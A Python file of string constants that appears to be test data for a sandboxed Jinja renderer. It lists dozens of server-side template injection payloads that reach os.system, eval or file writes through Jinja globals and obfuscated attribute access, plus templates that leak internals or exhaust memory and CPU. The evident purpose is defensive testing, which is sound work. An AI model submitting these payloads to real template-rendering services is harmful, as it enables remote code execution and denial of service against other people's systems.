"""Templates of a stranger: what they would run, show and use up; `@@` is the file they make."""

RUN = "os.system('touch @@')"
OS = "lipsum.__globals__.os"
BASE = "''.__class__.__base__.__subclasses__()"
INNER = (
    "self._TemplateReference__context.environment.from_string("
    f"'{{{{ {OS}.system(\"touch @@\") }}}}')"
)
RUNS = {
    "a global function": "{{ lipsum.__globals__." + RUN + " }}",
    "a class among the globals": "{{ cycler.__init__.__globals__." + RUN + " }}",
    "another": "{{ joiner.__init__.__globals__." + RUN + " }}",
    "the namespace": "{{ namespace.__init__.__globals__." + RUN + " }}",
    "builtins": "{{ lipsum.__globals__.__builtins__.open('@@', 'w') }}",
    "eval": "{{ lipsum.__globals__.__builtins__.eval(\"__import__('os').system('touch @@')\") }}",
    "an import": "{{ lipsum.__globals__.__builtins__.__import__('os').system('touch @@') }}",
    "the template itself": "{{ self.__init__.__globals__.__builtins__.open('@@', 'w') }}",
    "the context behind it": "{{ self._TemplateReference__context.cycler.__init__.__globals__."
    + RUN
    + " }}",
    "the environment": "{{ " + INNER + ".render() }}",
    "an include": "{% include " + INNER + " %}",
    "an import of a template": "{% import " + INNER + " as m %}{{ m }}",
    "names of an import": "{% from " + INNER + " import a %}",
    "an inheritance": "{% extends " + INNER + " %}",
    "subclasses, in a loop": "{% for c in error.__class__.__mro__[1].__subclasses__() %}"
    "{% if c.__name__ == '_wrap_close' %}{{ c.__init__.__globals__['system']('touch @@') }}"
    "{% endif %}{% endfor %}",
    "subclasses, selected": "{{ (" + BASE + "|selectattr('__name__', 'equalto', '_wrap_close')"
    "|first).__init__.__globals__.system('touch @@') }}",
    "a method of a value": "{{ (error.upper.__self__.__class__.__base__.__subclasses__()"
    "|selectattr('__name__', 'equalto', '_wrap_close')|first).__init__.__globals__"
    ".system('touch @@') }}",
    "keys in place of fields": "{{ lipsum['__globals__']['os']['system']('touch @@') }}",
    "escaped keys": r"{{ lipsum['\x5f\x5fglobals\x5f\x5f']['os']['system']('touch @@') }}",
    "two constants": "{{ lipsum['__glo' 'bals__'].os.system('touch @@') }}",
    "a concatenation": "{{ lipsum['__glo' ~ 'bals__'].os.system('touch @@') }}",
    "an addition": "{{ lipsum['__glo' + 'bals__'].os.system('touch @@') }}",
    "a multiplication": "{{ lipsum['_' * 2 + 'globals' + '_' * 2].os.system('touch @@') }}",
    "the attr filter": "{{ (lipsum|attr('__globals__')).os.system('touch @@') }}",
    "attr, escaped": r"{{ (lipsum|attr('\x5f\x5fglobals\x5f\x5f')).os.system('touch @@') }}",
    "attr, joined": "{{ (lipsum|attr(['__glo', 'bals__']|join)).os.system('touch @@') }}",
    "attr, reversed": "{{ (lipsum|attr('__slabolg__'|reverse)).os.system('touch @@') }}",
    "attr, of a key": "{{ (lipsum|attr(dict(__globals__=1)|list|first)).os.system('touch @@') }}",
    "attr, formatted": "{{ (lipsum|attr('%c%cglobals%c%c'|format(95, 95, 95, 95)))"
    ".os.system('touch @@') }}",
    "attr, by str.format": "{{ (lipsum|attr('{0}{0}globals{0}{0}'.format('_')))"
    ".os.system('touch @@') }}",
    "map": "{{ ([lipsum]|map(attribute='__globals__')|first).os.system('touch @@') }}",
    "groupby": "{{ ([lipsum]|groupby('__globals__.os.system')|first)[0]('touch @@') }}",
    "sum": "{{ ([[lipsum]]|sum(start=[]))[0].__globals__." + RUN + " }}",
    "a literal list": "{{ [lipsum][0].__globals__." + RUN + " }}",
    "a literal mapping": "{{ {'a': " + OS + ".system('touch @@')} }}",
    "a literal tuple": "{{ (1, " + OS + ".system('touch @@')) }}",
    "set": "{% set o = " + OS + " %}{{ o.system('touch @@') }}",
    "a block of set": "{% set x %}{{ lipsum.__globals__." + RUN + " }}{% endset %}",
    "with": "{% with o = " + OS + " %}{{ o.system('touch @@') }}{% endwith %}",
    "a namespace's field": "{% set n = namespace(x=lipsum) %}{{ n.x.__globals__." + RUN + " }}",
    "a macro": "{% macro m() %}{{ lipsum.__globals__." + RUN + " }}{% endmacro %}{{ m() }}",
    "a macro's own class": "{% macro m() %}{% endmacro %}"
    "{{ m.__init__.__globals__.sys.modules.os.system('touch @@') }}",
    "a call block": "{% macro m() %}{{ caller() }}{% endmacro %}"
    "{% call m() %}{{ lipsum.__globals__." + RUN + " }}{% endcall %}",
    "a filter block": "{% filter upper %}{{ lipsum.__globals__." + RUN + " }}{% endfilter %}",
    "a block": "{% block b %}{{ lipsum.__globals__." + RUN + " }}{% endblock %}",
    "autoescape": "{% autoescape true %}{{ lipsum.__globals__." + RUN + " }}{% endautoescape %}",
    "a condition": "{% if lipsum.__globals__." + RUN + " %}{% endif %}",
    "an elif": "{% if false %}{% elif lipsum.__globals__." + RUN + " %}{% endif %}",
    "what is iterated": "{% for x in lipsum.__globals__.os.popen('touch @@').readlines() %}"
    "{% endfor %}",
    "the filter of a loop": "{% for x in 'a' if lipsum.__globals__." + RUN + " %}{% endfor %}",
    "the else of a loop": "{% for x in '' %}{% else %}{{ lipsum.__globals__."
    + RUN
    + " }}{% endfor %}",
    "items of a mapping": "{% for k, v in lipsum.__globals__.items() %}{% if k == 'os' %}"
    "{{ v.system('touch @@') }}{% endif %}{% endfor %}",
    "the loop": "{% for x in 'a' %}"
    "{{ loop.__init__.__globals__.sys.modules.os.system('touch @@') }}{% endfor %}",
    "a recursive loop": "{% for x in 'a' recursive %}"
    "{{ loop.__call__.__globals__.sys.modules.os.system('touch @@') }}{% endfor %}",
    "the loop's cycle": "{% for x in 'a' %}{{ loop.cycle(" + OS + ".system('touch @@')) }}"
    "{% endfor %}",
    "a conditional expression": "{{ 'a' if lipsum.__globals__." + RUN + " else 'b' }}",
    "an operand": "{{ 1 == lipsum.__globals__." + RUN + " }}",
    "a member of a list": "{{ 1 in [lipsum.__globals__." + RUN + "] }}",
    "a test's argument": "{{ error is sameas(lipsum.__globals__." + RUN + ") }}",
    "a filter's argument": "{{ error|default(lipsum.__globals__." + RUN + ") }}",
    "a named argument": "{{ error|fenced(label=lipsum.__globals__." + RUN + ") }}",
    "spread arguments": "{{ error|fenced(*[lipsum.__globals__." + RUN + "]) }}",
    "a key": "{{ error[lipsum.__globals__." + RUN + "] }}",
    "a slice": "{{ error[lipsum.__globals__." + RUN + ":] }}",
    "a sign": "{{ -lipsum.__globals__." + RUN + " }}",
    "a filter's result": "{{ (error|fenced).__class__.__base__.__subclasses__()[0]"
    ".__class__.__base__.__subclasses__()|length }}{{ " + OS + ".system('touch @@') }}",
}
"""Each of these ran a program, or opened a file for writing, with Jinja as it is."""

SHOWS = {
    "a method": "{{ error.upper }}",
    "a class": "{{ error.__class__ }}",
    "a function": "{{ range }}",
    "the template": "{{ self }}",
    "a loop": "{% for x in error %}{{ loop }}{% endfor %}",
    "a format string": "{{ '{0.__class__}'.format(error) }}",
    "a format operator": "{{ '%r' % lipsum }}",
    "a format filter": "{{ '%r'|format(lipsum) }}",
    "debugging": "{{ error|pprint }}",
    "a random choice": "{{ [1, 2]|random }}",
    "a change of a value": "{% for x in rows %}{{ rows.append(1) }}{% endfor %}",
}

EXPLODES = {
    "a multiplied text": "{{ 'a' * 10**9 }}",
    "a multiplied list": "{{ ([0] * 10**9)|length }}",
    "a tower": "{{ 9**9**9 }}",
    "a centred text": "{{ 'a'|center(10**9) }}",
    "an indented text": "{{ 'a\n'|indent(10**9) }}",
    "a padded text": "{{ 'a'.ljust(10**9) }}",
    "zeros": "{{ error.zfill(10**9) }}",
    "a width": "{{ '%0999999999d'|format(1) }}",
    "a width of a width": "{{ '%*d'|format(999999999, 1) }}",
    "a width in a test": '{{ "%999999999d" is odd }}',
    "a width in another": '{{ "%999999999d" is divisibleby 2 }}',
    "a width in str.format": "{{ '{:999999999}'.format(1) }}",
    "a width with an operator": "{{ '%999999999d' % 1 }}",
    "a range": "{% for i in range(10**9) %}{% endfor %}",
    "a list of a range": "{{ range(10**9)|list|length }}",
    "invented text": "{{ lipsum(n=10**7) }}",
    "slices": "{{ error|slice(10**9)|list|length }}",
    "batches": "{{ error|batch(10**9, 'x')|list|length }}",
    "doubling": "{% set n = namespace(x='aa') %}{% for i in range(33) %}{% set n.x = n.x ~ n.x %}"
    "{% endfor %}{{ n.x|length }}",
    "a macro twice": "{% macro m(n) %}{% if n %}{{ m(n-1) }}{{ m(n-1) }}{% endif %}{% endmacro %}"
    "{{ m(60) }}",
    "six loops": "{% for a in error %}" * 6 + "{% endfor %}" * 6,
    "parentheses": "{{ " + "(" * 40_000 + "error" + ")" * 40_000 + " }}",
    "negations": "{{ " + "not " * 20_000 + "error }}",
    "conditions": "{% if error %}" * 3_000 + "{% endif %}" * 3_000,
    "branches": "{% if error %}" + "{% elif error %}" * 3_000 + "{% endif %}",
    "filters": "{{ error" + "|upper" * 10_000 + " }}",
    "alternatives": "{{ error" + " or error" * 10_000 + " }}",
    "slots": "{{error}}" * 11_000,
    "a long number": "{{ " + "9" * 5_000 + " }}",
    "a long hexadecimal number": "{{ 0x" + "f" * 50_000 + " }}",
    "infinity": "{{ 1e999 }}",
    "a long text": "{{ error }}" + "x" * 100_000,
}
"""Most of these took gigabytes or minutes; the rest raised what no one expects."""

GROWS = {
    "loops over a text": "{% for a in error %}" * 5 + "{{ error }}" + "{% endfor %}" * 5,
    "loops that show nothing": "{% for a in error %}" * 5 + "{% endfor %}" * 5,
    "loops with a condition": "{% for a in error if a == 'b' %}{% endfor %}" * 5
    + "{% for a in error %}{% for b in error %}{% if error in error %}{% endif %}"
    + "{% endfor %}{% endfor %}",
    "a loop's length": "{% for a in error %}{% for b in error %}{% for c in error %}"
    "{{ loop.length }}{% endfor %}{% endfor %}{% endfor %}",
    "replacements": "{{ error" + "|replace('a', 'aaaaaaaaaa')" * 9 + " }}",
    "replacements of nothing": "{{ error" + "|replace('', error)" * 3 + " }}",
    "escapes": "{{ error" + "|tojson" * 40 + " }}",
    "joints": "{{ error" + "|join(error)" * 3 + " }}",
    "fences": "{% for a in error %}{{ error|fenced(error) }}{% endfor %}",
}
"""Allowed forms that multiply what they are given."""
